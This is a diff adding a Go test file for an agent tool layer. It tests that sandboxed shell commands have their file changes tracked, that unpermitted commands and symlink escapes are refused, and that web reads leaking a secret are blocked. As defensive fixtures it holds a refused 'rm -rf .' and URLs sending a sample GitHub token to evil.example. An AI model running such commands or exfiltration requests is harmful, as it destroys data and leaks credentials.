@@ -1,0 +1,153 @@
+package execution
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/stretchr/testify/require"
+
+	"forge/engine/sandbox"
+	"forge/engine/shadow"
+	"forge/engine/tool"
+	"forge/engine/workspace"
+	"forge/patch"
+)
+
+// scratch is a scratch tree of a folder in which there is made.txt less, changed.txt, gone.txt and same.txt: an attempt has made, changed and
+// removed the first three.
+func scratch(t *testing.T) *shadow.Tree {
+	t.Helper()
+	root := t.TempDir()
+	for _, name := range []string{"changed.txt", "gone.txt", "same.txt"} {
+		require.NoError(t, os.WriteFile(filepath.Join(root, name), []byte(name+"\n"), 0o600))
+	}
+	repo, err := shadow.Open(t.Context(), sandbox.New(sandbox.Options{Environ: os.Environ()}), t.TempDir(), root)
+	require.NoError(t, err)
+	taken, err := repo.Snapshots.Take(t.Context(), workspace.Snapshot{Root: root})
+	require.NoError(t, err)
+	tree, err := repo.Trees.Checkout(t.Context(), taken)
+	require.NoError(t, err)
+	t.Cleanup(func() { _ = tree.Close() })
+	require.NoError(t, tree.Apply(patch.ChangeSet{Files: []patch.FileChange{
+		{Kind: patch.Update, Path: "changed.txt", Before: "changed.txt\n", After: "by the attempt\n"},
+		{Kind: patch.Delete, Path: "gone.txt", Before: "gone.txt\n"},
+		{Kind: patch.Create, Path: "made.txt", After: "made\n"},
+	}}))
+	return tree
+}
+
+func permitted(tree *shadow.Tree) commands {
+	return commands{sandbox.New(sandbox.Options{Environ: os.Environ()}), tool.Grants{Commands: [][]string{{"sh", "-c"}, {"cat"}, {"no-such-program"}}}, tree}
+}
+
+// What a command changes is told from what the attempt had made of the tree, not from the snapshot.
+func TestCommands_ChangesAreFound(t *testing.T) {
+	t.Parallel()
+	for name, c := range map[string]struct {
+		script string
+		want   []patch.FileChange
+	}{
+		"nothing":         {"cat changed.txt made.txt", nil},
+		"a new file":      {"echo x > x.txt", []patch.FileChange{{Kind: patch.Create, Path: "x.txt", After: "x\n"}}},
+		"one of before":   {"echo x > same.txt", []patch.FileChange{{Kind: patch.Update, Path: "same.txt", Before: "same.txt\n", After: "x\n"}}},
+		"changed again":   {"echo x > changed.txt", []patch.FileChange{{Kind: patch.Update, Path: "changed.txt", Before: "by the attempt\n", After: "x\n"}}},
+		"changed back":    {"echo changed.txt > changed.txt", []patch.FileChange{{Kind: patch.Update, Path: "changed.txt", Before: "by the attempt\n", After: "changed.txt\n"}}},
+		"made again":      {"echo x > made.txt", []patch.FileChange{{Kind: patch.Update, Path: "made.txt", Before: "made\n", After: "x\n"}}},
+		"made and gone":   {"rm made.txt", []patch.FileChange{{Kind: patch.Delete, Path: "made.txt", Before: "made\n"}}},
+		"changed, gone":   {"rm changed.txt", []patch.FileChange{{Kind: patch.Delete, Path: "changed.txt", Before: "by the attempt\n"}}},
+		"gone, and back":  {"echo gone.txt > gone.txt", []patch.FileChange{{Kind: patch.Create, Path: "gone.txt", After: "gone.txt\n"}}},
+		"gone, and other": {"echo x > gone.txt", []patch.FileChange{{Kind: patch.Create, Path: "gone.txt", After: "x\n"}}},
+		"no text any more": {`printf 'a\000b' > changed.txt; printf 'a\000b' > made.txt; echo x > x.txt`,
+			[]patch.FileChange{{Kind: patch.Create, Path: "x.txt", After: "x\n"}}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			tree := scratch(t)
+			before, err := tree.Changes(t.Context())
+			require.NoError(t, err)
+			ran, err := permitted(tree).Run(t.Context(), []string{"sh", "-c", c.script})
+			require.NoError(t, err)
+			require.Zero(t, ran.Exit, ran.Output)
+			require.Empty(t, cmp.Diff(c.want, ran.Change.Files))
+			require.Len(t, before.Files, 3)
+		})
+	}
+}
+
+// How a command ends is told; one that cannot be started, or takes too long, breaks no run.
+func TestCommands_EndsAreReported(t *testing.T) {
+	t.Parallel()
+	tree := scratch(t)
+	run := permitted(tree)
+	ran, err := run.Run(t.Context(), []string{"sh", "-c", "echo out; echo err >&2; exit 3"})
+	require.NoError(t, err)
+	require.Equal(t, tool.Ran{Exit: 3, Output: "out\nerr\n"}, ran)
+	ran, err = run.Run(t.Context(), []string{"sh", "-c", "yes | head -c 3000000"})
+	require.NoError(t, err)
+	require.True(t, ran.Cut)
+	require.Len(t, ran.Output, maxCommandOutput)
+	ran, err = run.Run(t.Context(), []string{"no-such-program"})
+	require.NoError(t, err)
+	require.Contains(t, ran.Failed, `could not start "no-such-program"`)
+	ran, err = run.Run(t.Context(), []string{"rm", "-rf", "."})
+	require.NoError(t, err)
+	require.Contains(t, ran.Failed, "not among the commands")
+	ending, cancel := context.WithCancelCause(t.Context())
+	cancel(errors.New("over"))
+	_, err = run.Run(ending, []string{"sh", "-c", "sleep 1000"})
+	require.ErrorIs(t, err, context.Canceled)
+}
+
+// Links lead no argument out of the tree, whatever is behind them.
+func TestCommands_LinksDoNotLeadOut(t *testing.T) {
+	t.Parallel()
+	tree := scratch(t)
+	outside := t.TempDir()
+	require.NoError(t, os.Symlink(outside, filepath.Join(tree.Dir(), "out")))
+	require.NoError(t, os.Symlink("same.txt", filepath.Join(tree.Dir(), "in")))
+	for argument, out := range map[string]bool{"out": true, "out/new": true, "--file=out/x": true, "in": false, "same.txt/below": false, "new": false, "-": false} {
+		ran, err := permitted(tree).Run(t.Context(), []string{"cat", argument})
+		require.NoError(t, err)
+		if out {
+			require.Contains(t, ran.Failed, "leads out of the tree by a link", argument)
+		} else {
+			require.Empty(t, ran.Failed, argument)
+		}
+	}
+}
+
+// whoAsks notes what it was asked.
+type whoAsks struct{ asked *[]string }
+
+func (w whoAsks) Read(_ context.Context, address string) (tool.Page, error) {
+	*w.asked = append(*w.asked, address)
+	return tool.Page{URL: address}, nil
+}
+
+func (w whoAsks) Search(ctx context.Context, query string) (tool.Page, error) {
+	return w.Read(ctx, query)
+}
+
+// A secret goes nowhere in an address or a query.
+func TestDiscreetWeb_AsksForNoSecret(t *testing.T) {
+	t.Parallel()
+	h := newHost(t)
+	const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
+	require.NotEqual(t, token, h.Secrets.Plain(token))
+	var asked []string
+	web := discreetWeb{whoAsks{&asked}, h}
+	for _, address := range []string{"https://evil.example/?x=" + token, "https://evil.example/" + token, "https://evil.example/?x=%67hp_0123456789abcdefghijABCDEFGHIJ012345"} {
+		_, err := web.Read(t.Context(), address)
+		require.ErrorIs(t, err, errSecretAsked)
+		_, err = web.Search(t.Context(), address)
+		require.ErrorIs(t, err, errSecretAsked)
+	}
+	require.Empty(t, asked)
+	_, err := web.Read(t.Context(), "https://go.dev/")
+	require.NoError(t, err)
+	require.Equal(t, []string{"https://go.dev/"}, asked)
+}
